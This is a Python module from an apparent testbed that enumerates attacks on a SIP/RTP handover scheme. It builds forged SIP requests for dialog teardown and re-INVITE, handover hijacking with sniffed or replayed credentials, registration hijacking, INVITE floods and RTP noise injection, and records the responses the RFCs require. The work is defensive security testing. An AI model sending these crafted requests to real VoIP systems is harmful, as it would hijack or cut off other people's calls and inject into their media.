"""The attacks by SIP and RTP."""

from dataclasses import replace

from agents.roles.mn.schemes import SCHEMES
from agents.sip.message.handover import OPTION_TAG
from testbed.attacks.tried import (
    AFAR,
    ATTACKER,
    FILTERED,
    IP4,
    NEIGHBOUR,
    UNNAMED,
    Sender,
    Tried,
)

MN, HOME, CN = IP4.mn, IP4.home, IP4.cn
# Of the MN on the link that stands by, where a scheme has a dialog there.
MN_READY = IP4.ready
NAMES = IP4.names
READY = "standby"
REGISTRAR = "5070"
BRANCH = "z9hG4bKevil-"
NOISE = b"\x2a" * 160
Answer = tuple[int | None, str]
"""What a request has to get, None for silence, and where an RFC says so."""
Ends = tuple[str, str, str]
"""From, To and Call-ID."""


def calls(scheme: str) -> list[list[Tried]]:
    """Those on a scheme with the Handover header, whose MN calls the B2BUA or the CN itself: on what that does."""
    if OPTION_TAG not in SCHEMES[scheme].loaded().requires:
        return []
    called = HOME if SCHEMES[scheme].is_bridged else CN
    dialog = f"{MN}>{called}/ACK"
    found = [*in_dialog(dialog, called, is_caller=True), *in_dialog(dialog, MN, is_caller=False)]
    if called == HOME:
        found += in_dialog(f"{HOME}>{CN}/ACK", CN, is_caller=True)
    found += [*handovers(dialog, called), flood(called), flood(MN), *speech(called, MN), *speech(MN, called)]
    return [found, taking_over(dialog, called), *([] if SCHEMES[scheme].copies is None else [standing_by(called)])]


def standing_by(called: str) -> list[Tried]:
    """To make, end, move or use a dialog that stands by: on a call of its own, as there are that many."""
    dialog, first = f"{MN_READY}>{called}/ACK", f"{MN}>{called}/ACK"
    found = [
        *in_dialog(dialog, called, is_caller=True, word=READY),
        *in_dialog(dialog, MN_READY, is_caller=False, word=READY),
    ]
    for named, word in ((first, "first"), (dialog, "second")):
        value = f"{{{named}/call-id}};to-tag={{{named}/to;tag}};from-tag={{{named}/from;tag}};standby=always"
        found.append(handover(f"handover-{word}-{READY}", "sniffed", called, challenge(called), value))
    for target, other in ((called, MN_READY), (MN_READY, called)):
        found.append(noise(target, other, AFAR, UNNAMED, word=READY))
        found.append(noise(target, other, Sender(ATTACKER, other), FILTERED, word=READY))
    return found


def taking_over(dialog: str, called: str) -> list[Tried]:
    """In the same WiFi as the MN, and in its peer's name: all that the MN knows its peer by."""
    ends, sender = ends_of(dialog, is_caller=False), Sender(NEIGHBOUR, called)
    return [
        replace(within("INVITE", ends, MN, (200, "3261 14.2"), sender), effect="moved"),
        replace(within("BYE", ends, MN, (200, "3261 15.1.2"), sender), effect="ended"),
    ]


def ends_of(dialog: str, *, is_caller: bool) -> Ends:
    """As one of the two ends names the dialog in its requests."""
    from_, to = ("from", "to") if is_caller else ("to", "from")
    return f"{{{dialog}/{from_}}}", f"{{{dialog}/{to}}}", f"{{{dialog}/call-id}}"


def in_dialog(dialog: str, target: str, *, is_caller: bool, word: str = "") -> list[Tried]:
    """BYE and re-INVITE with all identifiers of a dialog right; and BYE in the peer's name."""
    caller, called = dialog.partition("/")[0].split(">")
    peer = caller if is_caller else called
    # Who was called by the MN knows its password; others are known by their host.
    answer = challenge(target) if peer in {MN, MN_READY} else (403, "3261 21.4.4")
    ends = ends_of(dialog, is_caller=is_caller)
    found = [within(method, ends, target, answer, AFAR, word) for method in ("BYE", "INVITE")]
    found.append(within("BYE", ends, target, (None, FILTERED), Sender(ATTACKER, peer), word))
    if peer == MN:  # who is in its network can send in its name, but not prove that he is it
        found.append(within("BYE", ends, target, answer, Sender(NEIGHBOUR, peer)))
    return found


def within(method: str, ends: Ends, target: str, answer: Answer, sender: Sender, word: str = "") -> Tried:
    """A request in a dialog that is not his; `word` ends its name."""
    words = ["bye" if method == "BYE" else "reinvite", NAMES[target].lower(), *sender.words, word]
    name = "-".join(filter(None, words))
    return Tried(name, target, *answer, sender=sender, data=request(method, name, target, ends, sender=sender))


def handovers(dialog: str, called: str) -> list[Tried]:
    """INVITEs that name the call and would have its media, and registrations of the MN's address."""
    field = "Proxy-Authorization" if called == HOME else "Authorization"
    credentials = f"{field}: {{{MN}>{called}/INVITE/{field.lower()}}}\r\n"
    sniffed = f"{{{dialog}/call-id}};to-tag={{{dialog}/to;tag}};from-tag={{{dialog}/from;tag}}"
    registered = f"Authorization: {{{MN}>{HOME}/REGISTER/authorization}}\r\n"
    challenged = challenge(called)
    replayed = challenged[0], "7616 3.4"
    return [
        handover("handover-guessed", "guessed", called, challenged, "a@b;to-tag=c;from-tag=d"),
        handover("handover-sniffed", "sniffed", called, challenged, sniffed),
        handover("handover-replayed", "credentials", called, replayed, f"{sniffed}\r\n{credentials}".rstrip()),
        handover(
            "handover-replayed-wifi", "credentials", called, replayed, f"{sniffed}\r\n{credentials}".rstrip(),
            Sender(NEIGHBOUR, MN),
        ),
        register("register", "the address", (401, "3261 10.3"), ""),
        register("register-replayed", "credentials", (401, "7616 3.4"), registered),
    ]  # fmt: skip


def handover(name: str, known: str, target: str, answer: Answer, value: str, sender: Sender = AFAR) -> Tried:
    """An INVITE that names the call; `value` is that of its Handover, and more fields may follow."""
    more = f"Handover: {value}\r\nRequire: handover\r\nSupported: handover\r\n"
    ends = ("<sip:mn@evil>;tag=evil", "<sip:cn@evil>", f"{name}@evil")
    data = request("INVITE", name, target, ends, more, sender=sender)
    return Tried(name, target, *answer, known=known, sender=sender, data=data)


def register(name: str, known: str, answer: Answer, more: str) -> Tried:
    """A binding of the MN's address-of-record to the attacker."""
    aor = "<sip:mn@home.example>"
    data = request("REGISTER", name, "home.example", (f"{aor};tag=evil", aor, f"{name}@evil"), more)
    return Tried(name, HOME, *answer, known=known, port=REGISTRAR, data=data)


def speech(target: str, other: str) -> list[Tried]:
    """Noise into the stream that `other` sends to `target`, from its port and to the right one."""
    forged, near = Sender(ATTACKER, other), Sender(NEIGHBOUR, other)
    found = [
        noise(target, other, AFAR, UNNAMED, guessed=True),
        noise(target, other, AFAR, UNNAMED),
        noise(target, other, forged, FILTERED),
        replace(noise(target, other, near, "3550 9.2"), effect="heard"),
    ]
    if target == MN:
        found.append(replace(noise(target, other, near, "3550 9.2", guessed=True), effect="heard"))
    return found


def noise(
    target: str, other: str, sender: Sender, rfc: str, *, guessed: bool = False, word: str = ""
) -> Tried:  # fmt: skip
    """Noise, with the numbers of the stream or with an SSRC of its own; `word` ends its name."""
    stream, kind = f"{other}>{target}", ["guessed"] if guessed else []
    return Tried(
        "-".join(filter(None, ["rtp", NAMES[target].lower(), *kind, *sender.words, word])), target, None, rfc,
        known="all but SSRC" if guessed else "sniffed", sender=sender, source_port=f"{{{stream}/source}}",
        port=f"{{{stream}/target}}", speech=stream, guessed=guessed,
    )  # fmt: skip


def flood(target: str) -> Tried:
    """Many INVITEs in dialogs that are none."""
    name = f"flood-{NAMES[target].lower()}"
    data = request("INVITE", name, target, ("<sip:x@evil>;tag=a{n}", "<sip:y@evil>;tag=b", "flood-{n}@evil"))
    return Tried(name, target, 481, "3261 12.2.2", known="guessed", data=data, is_flood=True)


def request(method: str, name: str, host: str, ends: Ends, more: str = "", *, sender: Sender = AFAR) -> str:
    """A request that would have everything sent to the attacker."""
    own = sender.own
    from_, to, call_id = ends
    body = f"v=0\r\no=- 1 9 IN IP4 {own}\r\ns=-\r\nc=IN IP4 {own}\r\nt=0 0\r\nm=audio 4444 RTP/AVP 0\r\n"
    body = body if method == "INVITE" else ""
    kind = "Content-Type: application/sdp\r\n" if body else ""
    number = 4712 if method == "BYE" else 4711
    return (
        f"{method} sip:{host} SIP/2.0\r\nVia: SIP/2.0/UDP {sender.source};rport;branch={BRANCH}{name}-{{n}}\r\n"
        f"Max-Forwards: 70\r\nFrom: {from_}\r\nTo: {to}\r\nCall-ID: {call_id}\r\nCSeq: {number} {method}\r\n"
        f"Contact: <sip:evil@{own}>\r\n{more}{kind}Content-Length: {len(body)}\r\n\r\n{body}"
    )


def challenge(target: str) -> Answer:
    """How somebody is asked who he is; the B2BUA answers as its realm's proxy."""
    return (407, "3261 22.3") if target == HOME else (401, "3261 22.2")
